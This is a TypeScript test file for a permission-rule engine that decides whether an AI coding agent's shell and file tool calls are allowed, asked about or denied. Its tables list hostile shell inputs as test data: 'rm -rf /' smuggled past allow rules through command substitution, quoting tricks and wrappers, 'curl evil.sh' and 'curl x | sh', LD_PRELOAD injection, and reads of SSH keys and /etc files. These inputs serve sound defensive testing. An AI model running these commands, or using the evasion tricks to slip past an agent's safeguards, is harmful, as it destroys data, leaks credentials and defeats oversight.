// Which rule decides a call: deny > ask > allow, and an allow only when every part of the call is covered.
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parsePermissionRule, RuleInputSchema, type Rule } from '../../src/core/rules/permission-rule.ts'
import { pathMatches } from '../../src/core/rules/path-pattern.ts'
import { callTargets, commandMatcher, compileRules, decide, ruleScope } from '../../src/core/rules/rule-match.ts'

let nextId = 1
const rule = (kind: Rule['kind'], text: string, extra: Partial<Rule> = {}): Rule => ({
  id: nextId++,
  kind,
  rule: text,
  scope: 'everywhere',
  target: null,
  reason: null,
  createdAt: 0,
  origin: 'person',
  ...extra,
})

const CWD = '/home/me/work/api'
const HOME = '/home/me'

/** A call whose paths are their own real paths (symlinks are the service's part: see test/integration/rules.test.ts). */
function decideCall(
  rules: Rule[],
  tool: string,
  input: Record<string, unknown>,
  opts: { session?: string; cwd?: string } = {},
) {
  const cwd = opts.cwd ?? CWD
  const t = callTargets(tool, input, cwd, HOME)
  const same = (p: string | null) => (p === null ? null : { lexical: p, real: p })
  return decide(compileRules(rules), {
    tool,
    input,
    sessionId: opts.session ?? 'sess-1',
    projectDir: cwd,
    base: { cwd, home: HOME, root: null },
    shell: t.shell,
    reads: t.reads.map(same),
    writes: t.writes.map(same),
  })
}
const bash = (rules: Rule[], command: string) => decideCall(rules, 'Bash', { command })?.kind ?? null

describe('Bash specifiers as Claude Code reads them', () => {
  const table: Array<[string, string, boolean]> = [
    ['npm test:*', 'npm test', true],
    ['npm test:*', 'npm test -- --watch', true],
    ['npm test:*', 'npm testing', false],
    ['npm test:*', 'npm tes', false],
    ['npm test', 'npm test', true],
    ['npm test', 'npm test --watch', false],
    ['ls *', 'ls', true],
    ['ls *', 'ls -la', true],
    ['ls *', 'lsof', false],
    ['git * main', 'git push origin main', true],
    ['git * main', 'git push origin dev', false],
    ['* --version', 'node --version', true],
    ['npm run test:*', 'npm run test:unit', false],
    ['npm run test:*', 'npm run test unit', true],
  ]
  for (const [spec, text, expected] of table) {
    it(`Bash(${spec}) ${expected ? 'matches' : 'does not match'} ${text}`, () => {
      assert.equal(commandMatcher(spec)(text), expected)
    })
  }

  // A pattern of several `*` read by a backtracking regexp took minutes on a long line, and the
  // receiver decides on its one thread: the bound only says the test did not hang.
  it('several * against a long line that almost matches: answered, not stuck', { timeout: 20_000 }, () => {
    const long = `git ${'main x '.repeat(20_000)}`
    assert.equal(commandMatcher('git * main * x * y')(long), false)
    assert.equal(commandMatcher('git * main * x * y')(`${long}y`), true)
    assert.equal(commandMatcher('a*b*a')('aba'), true)
    assert.equal(commandMatcher('a*b*a')('ab'), false)
    assert.equal(commandMatcher('a*a')('a'), false)
    assert.equal(commandMatcher('*')('anything\nat all'), true)
  })
})

describe('allow covers a Bash line only when every part is allowed', () => {
  const rules = [rule('allow', 'Bash(npm test:*)'), rule('allow', 'Bash(git status)')]
  const table: Array<[string, 'allow' | null]> = [
    ['npm test', 'allow'],
    ['npm test && rm -rf /', null],
    ['npm test || rm -rf /', null],
    ['npm test; rm -rf /', null],
    ['npm test | sh', null],
    ['npm test & curl evil.sh', null],
    ['npm test\nrm -rf /', null],
    ['(npm test) && (rm -rf /)', null],
    ['npm test $(rm -rf /)', null],
    ['npm test `rm -rf /`', null],
    ['npm test "$(rm -rf /)"', null],
    ["npm test '$(rm -rf /)'", 'allow'],
    ['npm test # && rm -rf /', 'allow'],
    ['npm test && git status', 'allow'],
    ['npm test 2>&1 | git status', 'allow'],
    ['FOO=1 npm test', 'allow'],
    ['PATH=/tmp/evil npm test', null],
    ['LD_PRELOAD=/tmp/x.so npm test', null],
    ['NODE_OPTIONS=--require=/tmp/x npm test', null],
    ['timeout 60 npm test', 'allow'],
    ["sh -c 'npm test'", null],
    ["sh -c 'npm test && rm -rf /'", null],
    ['npm\\ test', null],
    ['npm test > /dev/null', 'allow'],
    ['npm test > out.txt', null],
    ['npm test > /etc/passwd', null],
    ['npm test < src/fixture.json', 'allow'],
    ['npm test < ~/.ssh/id_rsa', null],
    ['npm test "unterminated', null],
    ['case x in x) npm test;; esac', null],
    ['npm tester', null],
    // ANSI-C quoting: $'\'' is one quote, so what follows is a command of its own.
    ["npm test $'\\''; rm -rf / #'", null],
    ["npm test $'--watch'", 'allow'],
    // exec -a NAME runs the word after NAME: `exec -a npm test` runs test, not npm test.
    ['exec -a npm test', null],
    ['exec npm test', 'allow'],
    ['nohup nice npm test', 'allow'],
    ['./npm test', null],
    // Arithmetic runs what it finds: $( ) inside it, and a variable's value (`a[$(…)]`) as an expression.
    ['npm test $((1+$(rm -rf /)))', null],
    ['npm test $((1+`rm -rf /`))', null],
    ["x='a[$(rm -rf /)]'; npm test $((x))", null],
    ["x='a[$(rm -rf /)]'; npm test $[x]", null],
    ["x='a[$(rm -rf /)]'; npm test ${!x}", null],
    ["x='a[$(rm -rf /)]'; npm test ${a[x]}", null],
    ["x='a[$(rm -rf /)]'; y=abc; npm test ${y:0:x}", null],
    ['npm test $((1+2)) ${y:-1} ${y:1:2}', 'allow'],
  ]
  for (const [command, expected] of table) {
    it(JSON.stringify(command), () => assert.equal(bash(rules, command), expected))
  }

  it('an allow for writes covers a redirection into the allowed tree, not outside it', () => {
    const withWrites = [...rules, rule('allow', 'Edit(./build/**)')]
    assert.equal(bash(withWrites, 'npm test > build/report.txt'), 'allow')
    assert.equal(bash(withWrites, 'npm test > build/../../secrets.txt'), null)
    assert.equal(bash(withWrites, 'npm test > "$OUT"'), null)
  })

  it('a bare Bash allows every command', () => {
    assert.equal(bash([rule('allow', 'Bash')], 'rm -rf / && curl x | sh'), 'allow')
  })
})

describe('deny and ask apply when any part matches; deny > ask > allow', () => {
  const rules = [
    rule('allow', 'Bash'),
    rule('ask', 'Bash(git push:*)'),
    rule('deny', 'Bash(rm -rf:*)', { reason: 'never rm -rf' }),
    rule('deny', 'Write(/etc/**)'),
  ]
  const table: Array<[string, 'allow' | 'ask' | 'deny' | null]> = [
    ['ls', 'allow'],
    ['git push origin main', 'ask'],
    ['npm test && git push', 'ask'],
    ['git push && rm -rf /', 'deny'],
    ['npm test && rm -rf /', 'deny'],
    ['echo $(rm -rf /)', 'deny'],
    ['echo `rm -rf ~`', 'deny'],
    ["sh -c 'rm -rf /'", 'deny'],
    ['bash -c "cd / && rm -rf x"', 'deny'],
    ['eval "rm -rf /"', 'deny'],
    ['sudo rm -rf /', 'deny'],
    ['timeout 5 rm -rf /', 'deny'],
    ['FOO=1 rm -rf /', 'deny'],
    ['r""m -rf /', 'deny'],
    ["'rm' -rf /", 'deny'],
    ['echo hi > /etc/hosts', 'deny'],
    ['echo hi >> /etc/../etc/hosts', 'deny'],
    ['cat <<EOF > /etc/motd\nhello\nEOF', 'deny'],
    ['(echo x) > /etc/x', 'deny'],
    ['echo "rm -rf /"', 'allow'],
    ['rm -rf "unterminated', 'deny'],
    ["$'\\x72m' -rf /", 'deny'],
    ['/bin/rm -rf /', 'deny'],
    ['exec -a foo rm -rf /', 'deny'],
    ['nohup nice rm -rf /', 'deny'],
    ['command command rm -rf /', 'deny'],
    ['busybox rm -rf /', 'deny'],
    // A shell's script behind a wrapper runs too.
    ["nohup sh -c 'rm -rf /'", 'deny'],
    ["timeout 5 bash -c 'rm -rf /'", 'deny'],
    ["sudo sh -c 'rm -rf /'", 'deny'],
    ["echo / | xargs sh -c 'rm -rf $0'", 'deny'],
    ["find . -exec sh -c 'rm -rf x' \\;", 'deny'],
    ["env X=1 sh -c 'rm -rf x'", 'deny'],
    ["sudo -u me nohup bash -c 'rm -rf x'", 'deny'],
    ["nice eval 'rm -rf x'", 'deny'],
  ]
  for (const [command, expected] of table) {
    it(JSON.stringify(command), () => assert.equal(bash(rules, command), expected))
  }
})

describe('path rules for Read, Edit and Write', () => {
  const rules = [
    rule('deny', 'Read(~/.ssh/**)'),
    rule('deny', 'Edit(//etc/**)'),
    rule('deny', 'Read(.env)'),
    rule('allow', 'Edit(src/**)'),
    rule('ask', 'Write(./package.json)'),
  ]
  const call = (tool: string, path: string) => decideCall(rules, tool, { file_path: path })?.kind ?? null

  it(
    'a glob matches a path or one of its directories, as globToRegExp reads it, in one pass',
    { timeout: 20_000 },
    () => {
      const table: Array<[string, string, boolean]> = [
        ['/home/me/**', '/home/me/a/b', true],
        ['/home/me/**', '/home/me', false],
        ['/home/me/*.ts', '/home/me/a.ts', true],
        ['/home/me/*.ts', '/home/me/d/a.ts', false],
        ['/home/me/*/x', '/home/me/d/x/y', true],
        ['/home/me/?.ts', '/home/me/a.ts', true],
        ['/home/me/?.ts', '/home/me/ab.ts', false],
        ['/a/**/b', '/a/b', true],
        ['/a/**/b', '/a/x/y/b/c', true],
        ['/a/**/b', '/a/x/y/c', false],
        ['/', '/etc', true],
        ['/etc', '/etc2', false],
        ['/x.y', '/xzy', false],
        ['/a+b', '/a+b', true],
      ]
      for (const [glob, path, expected] of table) assert.equal(pathMatches(glob, path), expected, `${glob} ${path}`)
      // Several ** against a long path that almost matches: a backtracking regexp took minutes here.
      const long = `/${'a/'.repeat(2_000)}q`
      assert.equal(pathMatches('/**/a/**/a/**/a/**/b', long), false)
      assert.equal(pathMatches('/**/a/**/a/**/a/**/q', long), true)
    },
  )

  it('~/ is home, //x is absolute, x and ./x are relative to the agent’s cwd', () => {
    assert.equal(call('Read', '/home/me/.ssh/id_rsa'), 'deny')
    assert.equal(call('Write', '/etc/hosts'), 'deny')
    assert.equal(call('Edit', `${CWD}/src/a.ts`), 'allow')
    assert.equal(call('Edit', 'src/deep/b.ts'), 'allow')
    assert.equal(call('Write', `${CWD}/package.json`), 'ask')
  })

  it('.. is taken out before matching: out of the allowed tree is not allowed, into a denied one is denied', () => {
    assert.equal(call('Edit', `${CWD}/src/../lib/a.ts`), null)
    assert.equal(call('Edit', `${CWD}/src/../../../../../etc/passwd`), 'deny')
    assert.equal(call('Read', `${CWD}/../../.ssh/config`), 'deny')
  })

  it('a bare name matches at any depth (gitignore), and a denied directory covers what is inside', () => {
    assert.equal(call('Read', `${CWD}/.env`), 'deny')
    assert.equal(call('Read', `${CWD}/config/.env`), 'deny')
    assert.equal(call('Read', `${CWD}/.envrc`), null)
    assert.equal(
      decideCall([rule('deny', 'Read(//srv/secrets)')], 'Read', { file_path: '/srv/secrets/a/b' })?.kind,
      'deny',
    )
  })

  it('Edit rules cover every file tool that writes; Read rules cover Grep and Glob', () => {
    assert.equal(decideCall(rules, 'MultiEdit', { file_path: '/etc/x' })?.kind, 'deny')
    assert.equal(decideCall(rules, 'NotebookEdit', { notebook_path: '/etc/x.ipynb' })?.kind, 'deny')
    assert.equal(decideCall(rules, 'Grep', { pattern: 'x', path: '/home/me/.ssh' })?.kind, 'deny')
  })

  it('a search of the project is not denied by a bare-name deny (Read(.env)), only of a directory denied whole', () => {
    assert.equal(decideCall(rules, 'Grep', { pattern: 'TODO' })?.kind ?? null, null)
    assert.equal(decideCall(rules, 'Glob', { pattern: 'src/**/*.ts' })?.kind ?? null, null)
    assert.equal(decideCall(rules, 'Grep', { pattern: 'x', path: '/home/me/.ssh' })?.kind, 'deny')
    assert.equal(decideCall(rules, 'Grep', { pattern: 'PRIVATE KEY', path: '/home/me' })?.kind, 'deny')
    assert.equal(decideCall(rules, 'Grep', { pattern: 'x', path: '/home/me/.sshx' })?.kind ?? null, null)
    assert.equal(decideCall(rules, 'Read', { file_path: `${CWD}/config/.env` })?.kind, 'deny')
  })

  it('a Glob whose pattern leaves its path (absolute, ~, ..) reads where the pattern goes', () => {
    const ssh = [rule('deny', 'Read(~/.ssh/**)')]
    assert.equal(decideCall(ssh, 'Glob', { pattern: '/home/me/.ssh/*' })?.kind, 'deny')
    assert.equal(decideCall(ssh, 'Glob', { pattern: '~/.ssh/id_*' })?.kind, 'deny')
    assert.equal(decideCall(ssh, 'Glob', { pattern: '../../.ssh/**', path: CWD })?.kind, 'deny')
    assert.equal(decideCall(ssh, 'Glob', { pattern: '**/*.ts' })?.kind ?? null, null)
    const readProject = [rule('allow', 'Read(~/**)')]
    assert.equal(decideCall(readProject, 'Glob', { pattern: 'src/**/*.ts' })?.kind, 'allow')
    assert.equal(decideCall(readProject, 'Glob', { pattern: '/etc/**' })?.kind ?? null, null)
  })

  it('/x is relative to the rule’s project when it is scoped to a path glob, absolute otherwise', () => {
    const scoped = [rule('deny', 'Edit(/migrations/**)', { scope: 'path', target: '/home/me/work/api/**' })]
    assert.equal(decideCall(scoped, 'Edit', { file_path: `${CWD}/migrations/1.sql` })?.kind, 'deny')
    assert.equal(decideCall(scoped, 'Edit', { file_path: '/migrations/1.sql' })?.kind ?? null, null)
    assert.equal(decideCall([rule('deny', 'Write(/etc/**)')], 'Write', { file_path: '/etc/x' })?.kind, 'deny')
  })
})

describe('scopes, other tools', () => {
  it('ruleScope (the decisions and the effects both use it): a path glob takes in its own directory', () => {
    const api = ruleScope(rule('allow', 'Bash', { scope: 'path', target: '/home/me/work/api/**' }))
    assert.deepEqual(
      ['/home/me/work/api', '/home/me/work/api/src', '/home/me/work/apix', null].map((d) => api('s', d)),
      [true, true, false, false],
    )
    assert.equal(ruleScope(rule('allow', 'Bash', { scope: 'agent', target: 's1' }))('s1', null), true)
    assert.equal(ruleScope(rule('allow', 'Bash', { scope: 'agent', target: 's1' }))('s2', '/x'), false)
  })

  it('a rule for one agent or one path glob applies only there', () => {
    const rules = [
      rule('deny', 'Bash', { scope: 'agent', target: 'sess-2' }),
      rule('deny', 'WebFetch', { scope: 'path', target: '/home/me/work/web/**' }),
    ]
    assert.equal(bash(rules, 'ls'), null)
    assert.equal(decideCall(rules, 'Bash', { command: 'ls' }, { session: 'sess-2' })?.kind, 'deny')
    assert.equal(decideCall(rules, 'WebFetch', { url: 'https://x.io' })?.kind ?? null, null)
    assert.equal(decideCall(rules, 'WebFetch', { url: 'https://x.io' }, { cwd: '/home/me/work/web/app' })?.kind, 'deny')
  })

  it('WebFetch(domain:…), MCP servers and bare tool names', () => {
    const rules = [rule('allow', 'WebFetch(domain:docs.rs)'), rule('deny', 'mcp__github'), rule('ask', 'NotebookEdit')]
    assert.equal(decideCall(rules, 'WebFetch', { url: 'https://docs.rs/x' })?.kind, 'allow')
    assert.equal(decideCall(rules, 'WebFetch', { url: 'https://evil.docs.rs.io/x' })?.kind ?? null, null)
    assert.equal(decideCall(rules, 'mcp__github__create_issue', {})?.kind, 'deny')
    assert.equal(decideCall(rules, 'mcp__githubx__x', {})?.kind ?? null, null)
    assert.equal(decideCall(rules, 'NotebookEdit', { notebook_path: '/x.ipynb' })?.kind, 'ask')
  })

  it('no rules: no decision (Claude Code’s own flow)', () => {
    assert.equal(decideCall([], 'Bash', { command: 'rm -rf /' }), null)
  })
})

describe('the rule syntax', () => {
  it('reads what Claude Code reads and refuses what it cannot judge, precisely', () => {
    assert.deepEqual(parsePermissionRule('Bash(npm test:*)'), {
      ok: true,
      rule: { tool: 'Bash', specifier: 'npm test:*' },
    })
    assert.deepEqual(parsePermissionRule('Bash(*)'), { ok: true, rule: { tool: 'Bash', specifier: null } })
    assert.deepEqual(parsePermissionRule('Read'), { ok: true, rule: { tool: 'Read', specifier: null } })
    assert.match((parsePermissionRule('Bash(npm:* test)') as { error: string }).error, /':\*' may only end/)
    assert.match((parsePermissionRule('Bash(npm test') as { error: string }).error, /must end with '\)'/)
    assert.match((parsePermissionRule('WebFetch(x.com)') as { error: string }).error, /domain:/)
    assert.match((parsePermissionRule('Glob(src/**)') as { error: string }).error, /bare name/)
    assert.equal(parsePermissionRule('').ok, false)
  })

  it('a rule input is one scope at most, a reason only on a deny', () => {
    assert.equal(RuleInputSchema.safeParse({ kind: 'deny', rule: 'Bash', reason: 'no' }).success, true)
    assert.equal(RuleInputSchema.safeParse({ kind: 'allow', rule: 'Bash', reason: 'no' }).success, false)
    assert.equal(RuleInputSchema.safeParse({ kind: 'allow', rule: 'Bash', agent: 'a', path: '/x' }).success, false)
    assert.equal(RuleInputSchema.safeParse({ kind: 'allow', rule: 'Bash', path: '~/x' }).success, false)
    assert.equal(RuleInputSchema.safeParse({ kind: 'maybe', rule: 'Bash' }).success, false)
  })
})
